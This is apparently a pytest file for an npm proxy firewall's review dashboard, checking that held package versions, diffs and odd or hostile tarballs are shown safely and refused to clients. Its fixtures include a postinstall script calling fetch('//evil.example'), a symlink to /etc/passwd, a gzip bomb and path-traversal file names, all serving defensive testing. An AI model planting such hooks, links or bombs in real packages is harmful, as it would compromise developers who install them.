"""The pages about a version of the upstream: what a reviewer of a hold sees, and who may see it."""

from __future__ import annotations

import gzip
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta

import pytest
from dashboard.test_hostile import check
from support import raw_tar
from support.browser import HOME, Browser, signed_in
from support.dated import date_versions
from support.hosting import PlatformFixture
from support.payloads import PAYLOADS

from nproxy_mw.firewall import review
from nproxy_mw.firewall.review import reviewed
from nproxy_mw.middleware.dashboard.pages import version as page_of_version
from nproxy_mw.npm.names import parse_name
from nproxy_mw.testing.upstream import RecordingUpstream, Reply
from nproxy_mw.times import timestamp

NOW = datetime.now(UTC)
PACKAGES = f"{HOME}/orgs/acme/packages"


@pytest.fixture
def upstream() -> Iterator[RecordingUpstream]:
    """One package with two old versions, and one of this minute that the rules hold."""
    with RecordingUpstream() as upstream:
        upstream.publish("axios", "1.0.0", {"dependencies": {"form-data": "^4.0.0"}}, {"index.js": "one\ntwo\n"})
        upstream.publish("axios", "1.1.0-beta.1", {}, {"index.js": "beta\n"})
        upstream.publish(
            "axios",
            "1.1.0",
            {
                "dependencies": {"form-data": "^4.0.0", "plain-crypto": "^4.2.0"},
                "scripts": {"postinstall": "node x.js"},
            },
            {"index.js": "one\nthree\n", "x.js": "fetch('//evil.example')\n", "logo.png": b"\x89PNG\0\1"},
        )
        old = NOW - timedelta(days=400)
        date_versions(upstream, "axios", {"1.0.0": old, "1.1.0-beta.1": old, "1.1.0": NOW})
        yield upstream


def test_held_version_is_looked_at_and_clients_are_refused(town: PlatformFixture, browser: Browser) -> None:
    """The page has its files, scripts and dependencies; a client gets a 403 before and after."""
    client = town.client("acme", "proxy")
    assert client.get("/acme/axios/-/axios-1.1.0.tgz").status == 403
    page = browser.get(f"{PACKAGES}/axios/1.1.0")
    assert page.status == 200
    assert "The security rules hold this version" in page.text
    assert "postinstall runs on install node x.js" in page.text
    assert "plain-crypto ^4.2.0" in page.text
    assert "x.js" in page.text
    assert "npm install axios@1.1.0" not in page.text
    assert client.get("/acme/axios/-/axios-1.1.0.tgz").status == 403


def test_changes_against_the_stable_version_before(browser: Browser) -> None:
    """Files with their text, dependencies and scripts; binary files are named and not shown."""
    page = browser.get(f"{PACKAGES}/axios/-/changes/1.1.0")
    assert page.status == 200
    assert "dependencies plain-crypto – ^4.2.0" in page.text
    assert "scripts postinstall runs on install – node x.js" in page.text
    assert "@@ -1,2 +1,2 @@ one -two +three" in page.text
    assert "+fetch('//evil.example')" in page.text
    assert "This is not text" in page.text
    other = browser.get(f"{PACKAGES}/axios/-/changes/1.1.0?against=1.1.0-beta.1")
    assert "-beta +one" in other.text


def test_files_of_a_held_version_are_for_administrators(town: PlatformFixture) -> None:
    """A reader sees its manifest, and whom to ask; files of an allowed version are there for both."""
    eve = signed_in(town, "eve")
    for path in ("axios/1.1.0", "axios/-/changes/1.1.0"):
        page = eve.get(f"{PACKAGES}/{path}")
        assert page.status == 200
        assert "plain-crypto" in page.text
        assert "An administrator of the organization can look at its files." in page.text
        assert "evil.example" not in page.text
    assert "index.js" in eve.get(f"{PACKAGES}/axios/1.0.0").text


def test_a_package_of_the_upstream_leads_to_its_reasons(browser: Browser) -> None:
    """It has no page of its own."""
    assert browser.get(f"{PACKAGES}/axios").headers["location"] == f"{HOME}/orgs/acme/explain?package=axios"
    page = browser.follow(f"{PACKAGES}/axios")
    assert f"{PACKAGES}/axios/1.1.0" not in page.text
    reasons = browser.get(f"{HOME}/orgs/acme/explain?package=axios&version=1.1.0")
    assert f"{PACKAGES}/axios/1.1.0" in reasons.links
    assert f"{PACKAGES}/axios/-/changes/1.1.0?against=1.0.0" in reasons.links


@pytest.mark.parametrize("path", ["@acme/utils", "@acme/utils/1.0.0", "@acme/utils/-/changes/1.0.0"])
def test_internal_names_stay_here(browser: Browser, upstream: RecordingUpstream, path: str) -> None:
    """An absent internal package is absent; the upstream is not asked."""
    assert browser.get(f"{PACKAGES}/{path}").status == 404
    assert upstream.asked("acme") == []


@pytest.mark.parametrize("path", ["axios/7.7.7", "nothing/1.0.0", "axios/-/changes/1.0.0"])
def test_what_is_not_there_is_a_404(browser: Browser, path: str) -> None:
    """No such version, no such package, no version before."""
    assert browser.get(f"{PACKAGES}/{path}").status == 404


def test_an_upstream_that_fails_is_told(browser: Browser, upstream: RecordingUpstream) -> None:
    """The manifest is there all the same; other bytes than it promises are not shown."""
    upstream.on("GET", "/axios/-/axios-1.0.0.tgz", Reply(500))
    page = browser.get(f"{PACKAGES}/axios/1.0.0")
    assert (page.status, "form-data" in page.text, "index.js" in page.text) == (200, True, False)
    upstream.on("GET", "/axios/-/axios-1.1.0.tgz", Reply(200, upstream.state.tarballs["/axios/-/axios-1.0.0.tgz"]))
    page = browser.get(f"{PACKAGES}/axios/1.1.0")
    assert "sent other bytes than its packument promises" in page.text


def publish_raw(upstream: RecordingUpstream, archive: bytes, **manifest: object) -> None:
    """Adds axios 2.0.0, whose tarball is *archive* and whose ``dist`` promises nothing."""
    upstream.publish("axios", "2.0.0", {"dist": {}, **manifest})
    upstream.state.packuments["axios"]["time"]["2.0.0"] = timestamp(NOW - timedelta(days=300))
    upstream.state.tarballs["/axios/-/axios-2.0.0.tgz"] = archive


BOMB = gzip.compress(raw_tar.entry(b"package/zeros", bytes(40 * 2**20)) + bytes(1024))
PIECES = gzip.compress(b"".join(raw_tar.entry(b"package/%d" % n) for n in range(20_001)) + bytes(1024))


@pytest.mark.parametrize(
    ("archive", "sentence"),
    [
        pytest.param(BOMB, "The tarball is large, so its files are not shown unasked.", id="bomb"),
        pytest.param(PIECES, "The tarball is large", id="many files"),
        pytest.param(gzip.compress(raw_tar.entry(link=b"/etc/passwd", kind=b"2")), "a symbolic link", id="link"),
        pytest.param(b"\x1f\x8bno gzip", "is not gzip", id="damaged"),
    ],
)
def test_a_tarball_that_cannot_be_shown_says_why(
    browser: Browser, upstream: RecordingUpstream, archive: bytes, sentence: str
) -> None:
    """Nothing of it is unpacked beyond the bounds, asked for or not."""
    publish_raw(upstream, archive)
    page = browser.get(f"{PACKAGES}/axios/2.0.0")
    assert page.status == 200
    assert sentence in page.text
    assert browser.get(f"{PACKAGES}/axios/2.0.0?open=yes").status == 200


def test_a_bomb_is_not_opened_when_asked_for_either(browser: Browser, upstream: RecordingUpstream) -> None:
    """Its ratio gives it away."""
    publish_raw(upstream, BOMB)
    assert "more than 100 times its size" in browser.get(f"{PACKAGES}/axios/2.0.0?open=yes").text


def test_a_tarball_is_read_within_bounds(
    town: PlatformFixture, upstream: RecordingUpstream, monkeypatch: pytest.MonkeyPatch
) -> None:
    """In bytes and in seconds."""
    firewall = town.platform.firewall("acme")
    assert firewall is not None
    package = reviewed(firewall, parse_name("axios"))
    seconds = iter(range(0, 1000, 100))
    with pytest.raises(review.UpstreamTimeout):
        package.tarball("1.0.0", monotonic=lambda: float(next(seconds)))
    monkeypatch.setattr(review, "MAX_PACKED", 100)
    with pytest.raises(review.BadRequest):
        package.tarball("1.0.0")


ODD = [None, True, 7, -1, "text", [], ["x", 1], {}, {"name": ["x"], "x": {"y": "z"}}, {"name": {"a": 1}}]


@pytest.mark.parametrize("odd", ODD, ids=repr)
def test_odd_manifests_have_pages(browser: Browser, upstream: RecordingUpstream, odd: object) -> None:
    """Whatever type a member has that no registry checks."""
    members = ("dependencies", "scripts", "_npmUser", "deprecated", "engines", "bin", "peerDependencies", "license")
    upstream.publish("axios", "2.0.0", dict.fromkeys(members, odd))
    dist = upstream.state.packuments["axios"]["versions"]["2.0.0"]["dist"]
    dist |= {"unpackedSize": odd, "fileCount": odd, "attestations": odd, "signatures": odd}
    upstream.state.packuments["axios"]["time"]["2.0.0"] = odd
    for path in ("axios/2.0.0", "axios/-/changes/2.0.0"):
        assert browser.get(f"{PACKAGES}/{path}").status == 200


def hostile(payload: str) -> bytes:
    """A tarball whose paths and texts are *payload*, one of them a way out of its folder."""
    name = "".join(character for character in payload if character not in "\0\n")
    names = (f"package/{name}", f"package/../../{name}", f"package//{name}", "beside")
    files = [raw_tar.entry(one.encode()[:99], f"{payload}\n".encode()) for one in names]
    return gzip.compress(b"".join(files) + bytes(1024))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_versions_do_nothing(browser: Browser, upstream: RecordingUpstream, payload: str) -> None:
    """In file names, text, a difference, scripts, dependencies, a publisher, a tag, a time."""
    members = {"scripts": {payload: payload}, "dependencies": {payload: payload}, "deprecated": payload}
    publish_raw(upstream, hostile(payload), _npmUser={"name": payload}, **members)
    upstream.state.packuments["axios"]["dist-tags"][payload] = "2.0.0"
    upstream.state.packuments["axios"]["time"]["2.0.0"] = payload
    for path in ("axios/2.0.0", "axios/-/changes/2.0.0"):
        page = browser.get(f"{PACKAGES}/{path}")
        assert page.status == 200
        check(page)


@pytest.mark.parametrize("character", ['"', "\u202e", "\U0001f600", "<"])
def test_a_hostile_version_stays_within_a_page(browser: Browser, upstream: RecordingUpstream, character: str) -> None:
    """However much each character weighs on it."""
    many = {f"{number:03}{character * 150}": character * 250 for number in range(300)}
    paths = [f"package/{number:03}{character * 14}".encode() for number in range(200)]
    files = [raw_tar.entry(path, (character * 200 + "\n").encode() * 50) for path in paths]
    archive = gzip.compress(b"".join(files) + bytes(1024))
    publish_raw(upstream, archive, scripts=many, dependencies=many, _npmUser={"name": character * 900})
    for path in ("axios/2.0.0", "axios/-/changes/2.0.0"):
        page = browser.get(f"{PACKAGES}/{path}")
        assert page.status == 200
        check(page)


def test_the_version_before_is_the_stable_one() -> None:
    """Of a package without stable versions, it is the one below; of the first one, there is none."""
    before = page_of_version.version_before
    assert before(["3.0.0", "2.0.0", "2.0.0-rc.1", "1.0.0"], "2.0.0") == "1.0.0"
    assert before(["1.0.0-b", "1.0.0-a"], "1.0.0-b") == "1.0.0-a"
    assert before(["1.0.0"], "1.0.0") == ""
